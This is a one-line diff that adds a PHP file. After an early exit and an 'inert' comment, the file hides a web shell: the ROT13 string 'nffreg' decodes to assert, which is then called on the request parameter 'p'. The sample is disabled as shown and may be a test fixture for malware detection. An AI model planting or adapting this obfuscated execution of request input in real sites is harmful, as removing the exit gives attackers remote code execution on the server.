@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f = str_rot13("nffreg"); $f($_REQUEST["p"]);
